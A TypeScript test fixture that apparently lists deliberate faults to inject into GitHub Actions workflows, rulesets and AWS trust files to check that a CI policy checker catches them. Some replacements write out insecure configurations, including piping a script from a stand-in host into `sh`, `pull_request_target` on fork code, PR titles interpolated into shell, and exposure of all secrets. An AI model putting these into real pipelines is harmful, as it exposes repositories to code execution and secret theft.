/** One mistake in one file below `.github`, as somebody could make it, by hand or on purpose. */
export interface Fault {
  readonly what: string;
  readonly file: string;
  readonly from: string | RegExp;
  readonly to: string;
}

const fault = (what: string, file: string, from: string | RegExp, to: string): Fault => ({ what, file, from, to });
const pullRequest = (what: string, from: string | RegExp, to: string) =>
  fault(what, 'workflows/pull-request.yml', from, to);
const main = (what: string, from: string | RegExp, to: string) => fault(what, 'workflows/main.yml', from, to);
const preview = (what: string, from: string | RegExp, to: string) => fault(what, 'workflows/preview.yml', from, to);
const nightly = (what: string, from: string | RegExp, to: string) => fault(what, 'workflows/nightly.yml', from, to);
const rules = (what: string, from: string | RegExp, to: string) => fault(what, 'rulesets/main.json', from, to);
const tags = (what: string, from: string | RegExp, to: string) => fault(what, 'rulesets/tags.json', from, to);

const PROTECTED = /("protected_branches": )false(,\s*"custom_branch_policies": )true/;
const CHECKOUT = /actions\/checkout@[0-9a-f]{40} # v[\d.]+/;
const LINT = 'run: npx nx affected -t lint';

export const FAULTS: readonly Fault[] = [
  // Other people's code
  pullRequest('an action by its tag', CHECKOUT, 'actions/checkout@v6'),
  pullRequest('an action by a branch', CHECKOUT, 'actions/checkout@main'),
  pullRequest('an action by a short commit', /actions\/checkout@([0-9a-f]{7})[0-9a-f]{33}/, 'actions/checkout@$1'),
  pullRequest('an action that nobody listed', CHECKOUT, `someone/checkout@${'a1'.repeat(20)} # v1.0.0`),
  pullRequest('a commit that differs by one digit', /actions\/checkout@([0-9a-f]{39})[0-9a-f]/, 'actions/checkout@$10'),
  pullRequest('a comment that names another version', /(actions\/checkout@[0-9a-f]{40}) # v[\d.]+/, '$1 # v9.9.9'),
  pullRequest('a container by its tag', 'runs-on: ubuntu-24.04', 'runs-on: ubuntu-24.04\n    container: node:24'),
  pullRequest('a script from the internet', LINT, 'run: curl -fsSL https://example.invalid/lint.sh | sh'),
  // Permissions
  pullRequest('everything for every job', 'permissions: {}', 'permissions: write-all'),
  pullRequest('nothing said of permissions', 'permissions: {}\n', ''),
  pullRequest(
    'write access for the code of a fork',
    'contents: read # checks out the sources',
    'contents: write # checks out the sources',
  ),
  pullRequest('a permission without a reason', 'contents: read # checks out the sources', 'contents: read'),
  preview('a preview for a fork', /^ {4}if: .*\n/m, ''),
  preview('a condition that a fork fulfils too', /^ {4}if: (.*)$/m, '    if: $1 || true'),
  main('an identity outside of an environment', /^ {4}environment: prod\n/m, ''),
  main('production in another environment', /^ {4}environment: prod$/m, '    environment: preview'),
  fault('a role that any branch may enter', 'trust/aws-prod.json', 'environment:prod', '*'),
  fault('a role that another repository may enter', 'trust/aws-prod.json', 'repo:fairway/', 'repo:somebody/'),
  fault(
    'production for protected branches, of which there are none',
    'environments/prod.json',
    PROTECTED,
    '$1true$2false',
  ),
  fault('production for every branch', 'environments/prod.json', /("deployment_branch_policy": )\{[^}]*\}/, '$1null'),
  fault('production for another branch', 'deployment-branch-policies/prod-branch.json', '"main"', '"trunk"'),
  fault('a release that waits for a protected tag', 'environments/release.json', PROTECTED, '$1true$2false'),
  fault('a registry that refuses a release', 'deployment-branch-policies/registry-tag.json', '"v*"', '"main"'),
  fault('a registry that refuses main', 'deployment-branch-policies/registry-branch.json', '"main"', '"trunk"'),
  // Strangers' text and triggers
  pullRequest('the target’s secrets for a stranger’s code', 'pull_request: {}', 'pull_request_target: {}'),
  pullRequest('a run after a stranger’s run', 'pull_request: {}', 'workflow_run:\n    workflows: [Main]'),
  pullRequest('a title in a script', LINT, 'run: echo "${{ github.event.pull_request.title }}"'),
  pullRequest('a branch’s name in a script', LINT, 'run: npx nx affected -t lint --base=${{ github.head_ref }}'),
  pullRequest('a token that stays in the clone', 'persist-credentials: false', 'persist-credentials: true'),
  pullRequest('a bot’s name as a pass', /if: always\(\) && .*/, "if: github.actor == 'dependabot[bot]'"),
  pullRequest(
    'commands in what a program prints',
    'NX_HEAD: HEAD',
    'NX_HEAD: HEAD\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: true',
  ),
  main(
    'a stored key instead of an identity',
    'STAGE: prod',
    'STAGE: prod\n      AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
  ),
  main('every secret for one job', 'STAGE: prod', 'STAGE: prod\n      ALL: ${{ toJSON(secrets) }}'),
  main(
    'a cache under what is rolled out',
    /( {6}- name: Enter AWS\n)/g,
    '      - name: Cache\n        uses: actions/cache@cdf6c1fa76f9f475f3d7449005a359c84ca0f306 # v5.0.3\n        with:\n          path: .nx\n          key: nx\n$1',
  ),
  // Two at once, and order
  preview('a deployment that a push ends half-way', 'cancel-in-progress: false', 'cancel-in-progress: true'),
  preview(
    'a preview that races its tear-down',
    'group: preview-${{ github.event.pull_request.number }}',
    'group: preview-${{ github.run_id }}',
  ),
  nightly(
    'a sweep that races a deployment',
    'group: preview-${{ matrix.number }}',
    'group: sweep-${{ matrix.number }}',
  ),
  pullRequest('no word on two at once', /^ {4}concurrency:\n.*\n.*\n/gm, ''),
  main('production beside uat', / {6}- rollout-uat\n/, ''),
  main('a rollout before the checks', /(rollout-uat:[^]*?needs:\n)( {6}- test\n)/, '$1'),
  main('a rollout of what an old run holds', / {6}- name: Is this the newest[^]*?run: .*\n/, ''),
  main(
    'a rollout of a list that somebody wrote',
    'run: npx nx run-many -t deploy --projects="$PROJECTS"',
    'run: npx nx run-many -t deploy --projects=resize',
  ),
  main('a rollout that nobody verifies', / {6}- name: Verify\n[^]*?run: npx nx run-many -t verify.*\n/, ''),
  // Checks that do not check
  pullRequest('a required check that is skipped', 'runs-on: ubuntu-24.04', 'if: false\n    runs-on: ubuntu-24.04'),
  pullRequest('a step whose failure nobody sees', LINT, `continue-on-error: true\n        ${LINT}`),
  pullRequest('a check under another name', 'name: Lint, unit tests, build', 'name: Checks'),
  pullRequest('a command that always succeeds', LINT, `${LINT} || true`),
  pullRequest('a job that may hang for six hours', /^ {4}timeout-minutes: 60\n/m, ''),
  rules('a check that is not required', /\{\s*"context": "Policy",[^}]*\},?/, ''),
  rules('rules that are only watched', '"enforcement": "active"', '"enforcement": "evaluate"'),
  rules(
    'somebody above the rules',
    '"bypass_actors": []',
    '"bypass_actors": [{"actor_id": 5, "actor_type": "RepositoryRole", "bypass_mode": "always"}]',
  ),
  rules('a merge that no owner saw', '"require_code_owner_review": true', '"require_code_owner_review": false'),
  rules('a push after the review', '"dismiss_stale_reviews_on_push": true', '"dismiss_stale_reviews_on_push": false'),
  tags('a release by whoever may push', /\{\s*"type": "creation"\s*\},/, ''),
  tags('a release that somebody moves', /\{\s*"type": "update"\s*\},/, ''),
  tags('rules for other tags than those that publish', 'refs/tags/v*', 'refs/tags/release-*'),
  // Plain mistakes
  main('a job that is not there', '- base\n', '- bass\n'),
  main('an output that no step gives', 'steps.changed.outputs.projects', 'steps.chnged.outputs.projects'),
  pullRequest(
    'a word that GitHub does not know',
    'github.event.pull_request.base.sha',
    'github.evnt.pull_request.base.sha',
  ),
  pullRequest('a machine that does not exist', 'runs-on: ubuntu-24.04', 'runs-on: ubuntu-99.04'),
  nightly('a time that does not exist', 'cron: 17 3 * * *', 'cron: 77 3 * * *'),
  fault('an update of the first hour', 'dependabot.yml', /\n {4}cooldown:\n {6}default-days: 7/, ''),
];
